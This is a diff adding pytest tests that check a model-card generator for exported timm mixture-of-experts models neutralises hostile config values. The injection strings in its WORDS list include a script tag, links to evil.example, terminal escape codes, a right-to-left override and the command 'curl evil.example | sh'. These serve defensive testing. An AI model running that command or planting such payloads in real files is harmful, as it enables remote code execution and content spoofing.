@@ -3,6 +3,7 @@
 import inspect
 import itertools
 import json
+import re
 
 import pytest
 import timm
@@ -156,6 +157,93 @@ def test_models_in_memory():
         assert "## Training" not in pushed.card
     assert "mixture-of-experts" in front_matter(moe.card)["tags"]
     assert "mixture-of-experts" not in front_matter(dense.card)["tags"]
+
+
+# --- a stranger's words
+
+#: HTML, a link, an image, a heading, the end of the front matter, a code block, escapes of a terminal.
+WORDS = [
+    "<script>alert(1)</script>",
+    "[free](https://evil.example)",
+    "![pixel](https://evil.example/p.png)",
+    "mit\n---\n# Heading",
+    "mit\n\n## Use\n\n```\ncurl evil.example | sh\n```",
+    "`</code><img src=x>`",
+    "mit | more |\n| a | b",
+    "\x1b]0;title\x07\x1b[2J",
+    "\u202egpj.exe\u2028# Heading",
+]
+
+
+def harmless(text):
+    """Of each line outside of code: no HTML, no link, no character that does not print."""
+    body = text.split("---\n", 2)[2]
+    prose = re.sub(r"```.*?```", "", body, flags=re.DOTALL)
+    assert all(line.isprintable() for line in text.splitlines())
+    assert not re.search(r"[<>]|\]\(|://|evil", re.sub(r"`[^`\n]*`", "", prose)), prose
+    assert [line for line in prose.splitlines() if line.startswith("#")] == [
+        line for line in prose.splitlines() if re.fullmatch(r"# vit|## (Use|Training|Results|Licence|Citation)", line)
+    ]
+    assert "evil" not in re.sub(r"(?s)^.*?```", "", "\n".join(re.findall(r"```.*?```", body, flags=re.DOTALL)))
+    return True
+
+
+@pytest.fixture
+def strange(checkpoint, tmp_path):
+    """A folder whose config.json can be changed again and again."""
+    folder = export_moe(checkpoint, tmp_path / "moe")
+    original = (folder / "config.json").read_text()
+
+    def changed(change):
+        config = json.loads(original)
+        change(config)
+        (folder / "config.json").write_text(json.dumps(config))
+        return folder
+
+    return changed
+
+
+@pytest.mark.parametrize("word", WORDS)
+def test_words_of_a_config_are_text_in_the_card(strange, word):
+    experts = {"model": word, "layers": 1, "experts": 2, "shared": False, "averaged": True, "mean": True}
+
+    def change(config):
+        config["pretrained_cfg"].update(license=word, tag=word, origin_url=word, paper_name=word, notes=[word])
+        config.update(label_names=[word, *"bcde"], label_descriptions={word: word}, **{word: word})
+        config["timm_moe"].update(file=word, start=word, method=word, experts={**experts, "parameters": 1})
+        config["timm_moe"]["options"].update(opt=word, model=word)
+
+    folder = strange(change)
+    for pushed in (push_folder(folder, "user/vit", dry_run=True), push_dense(folder, "user/vit", dry_run=True)):
+        assert harmless(pushed.card)
+        metadata = front_matter(pushed.card)
+        assert "evil" not in str(metadata)
+        assert metadata.get("license", "mit") in ("mit", "apache-2.0")
+
+
+@pytest.mark.parametrize("name", ["architecture", "base", "dataset", "options", "metrics"])
+def test_names_that_cannot_be_are_refused(strange, name):
+    for word in WORDS:
+        value = {word: 1.0} if name == "metrics" else {word: "1", f"model option {word}": "1"}
+        value = value if name in ("metrics", "options") else word
+
+        def change(config, word=word, value=value):
+            if name == "architecture":
+                config["architecture"] = f"vit_tiny_ewa_moe.{word}"
+            else:
+                config["timm_moe"][name] = value
+
+        with pytest.raises(ValueError, match=r"is damaged|cannot be created"):
+            push_folder(strange(change), "user/vit", dry_run=True)
+
+
+def test_a_licence_that_is_no_abbreviation(strange):
+    """The Hub would refuse it in the card's front matter."""
+    for license, text in (("Apache 2.0", "`Apache 2.0`, as its"), (3, "`3`, as its"), ("gpl-3.0", "gpl-3.0, as its")):
+        folder = strange(lambda config, license=license: config["pretrained_cfg"].update(license=license))
+        card = push_folder(folder, "user/vit", dry_run=True).card
+        assert text in card
+        assert front_matter(card).get("license") == ("gpl-3.0" if license == "gpl-3.0" else None)
 
 
 # --- bad input
